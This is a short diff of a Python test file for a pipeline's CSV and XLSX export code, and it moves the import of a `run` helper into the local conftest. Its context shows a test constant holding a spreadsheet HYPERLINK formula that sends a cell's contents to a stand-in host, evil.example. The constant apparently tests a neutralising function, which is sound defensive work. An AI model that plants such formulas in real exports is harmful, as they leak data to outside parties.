@@ -10,12 +10,11 @@ from pathlib import Path
 
 import pytest
 
-from pipeline.batch import run
 from pipeline.export.safe import neutralise
 from pipeline.export.tables import Row, write_csv, write_tables
 from pipeline.export.xlsx import write_xlsx
 
-from .conftest import AS_OF
+from .conftest import AS_OF, run
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
